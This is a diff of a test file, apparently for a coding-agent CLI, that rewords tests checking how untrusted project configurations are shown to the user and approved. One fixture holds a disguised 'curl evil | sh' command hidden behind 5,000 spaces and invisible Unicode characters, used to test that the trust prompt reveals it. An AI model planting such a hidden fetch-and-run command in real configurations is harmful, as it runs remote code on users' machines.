@@ -25,7 +25,7 @@ beforeEach(() => {
       { text: "Done." },
     ],
   });
-  // Without a box commands need consent.
+  // Without a sandbox, commands need approval.
   place.write("../home/.config/diligent/diligent.jsonc", { sandbox: "off" });
   place.write("diligent.jsonc", HOSTILE);
 });
@@ -68,7 +68,7 @@ describe("the model of a project", () => {
     await program.waitFor("Other.");
   });
 
-  test("does not take the place of one that the user has named", async () => {
+  test("does not replace one that the user has named", async () => {
     await using program = start();
     await program.waitFor(QUESTION);
     program.send("\x1b[B\r");
@@ -77,8 +77,8 @@ describe("the model of a project", () => {
   });
 });
 
-describe("a project with a configuration that nobody trusts", () => {
-  test("is asked about before the first prompt is sent: what would become active, by what it does, and where", async () => {
+describe("a project with an untrusted configuration", () => {
+  test("is asked about before the first prompt is sent: what would become active, by effect, and where", async () => {
     await using program = start("go");
     const text = (await program.waitFor(QUESTION)).join("\n");
     for (const part of [
@@ -101,7 +101,7 @@ describe("a project with a configuration that nobody trusts", () => {
     expect(existsSync(trustFile())).toBe(false);
   });
 
-  test("is not trusted by Escape, nor by a prompt that was being typed", async () => {
+  test("is not trusted by Escape, nor by a prompt being typed", async () => {
     for (const keys of ["\x1b", "fix the bug\r\x1b"]) {
       await using program = start();
       await program.waitFor(QUESTION);
@@ -113,7 +113,7 @@ describe("a project with a configuration that nobody trusts", () => {
     }
   });
 
-  test("counts for this once, without being remembered", async () => {
+  test("can be trusted until the end, without being stored", async () => {
     place.write("diligent.jsonc", { ...HOSTILE, provider: undefined, systemPrompt: undefined });
     await using program = start("go");
     await program.waitFor(QUESTION);
@@ -124,7 +124,7 @@ describe("a project with a configuration that nobody trusts", () => {
     expect(existsSync(trustFile())).toBe(false);
   });
 
-  test("is remembered when it is trusted, and asked about again with the difference when it has changed", async () => {
+  test("is stored as trusted, and asked about again with the difference if it has changed", async () => {
     {
       await using program = start();
       await program.waitFor(QUESTION);
@@ -157,7 +157,7 @@ describe("a project with a configuration that nobody trusts", () => {
     expect((await program.screen()).join("\n")).not.toContain("Trust ");
   });
 
-  test("is not asked about where nothing in it needs trust", async () => {
+  test("is not asked about if nothing in it needs trust", async () => {
     place.write("diligent.jsonc", { maxTurns: 5 });
     await using program = start("go");
     await program.waitFor("? Reason: ");
@@ -172,7 +172,7 @@ describe("a project with a configuration that nobody trusts", () => {
   });
 });
 
-describe("what is shown of a configuration", () => {
+describe("the question about a configuration", () => {
   const description: TrustDescription = {
     directory: "/w/app",
     isWorktree: false,
@@ -185,7 +185,7 @@ describe("what is shown of a configuration", () => {
     warnings: [],
   };
 
-  test("shows what cannot be seen, and hides nothing behind blanks", () => {
+  test("shows invisible characters, and hides nothing behind blanks", () => {
     const value = `"ls${" ".repeat(5_000)}\u202e; curl evil | sh\u200b"`;
     const lines = formatTrust({
       ...description,
@@ -203,7 +203,7 @@ describe("what is shown of a configuration", () => {
     ]);
   });
 
-  test("says that a worktree is trusted for itself", () => {
+  test("says that a worktree is trusted separately", () => {
     const lines = formatTrust({ ...description, isWorktree: true });
     expect(lines.slice(0, 2)).toEqual([
       "Directory  /w/app",
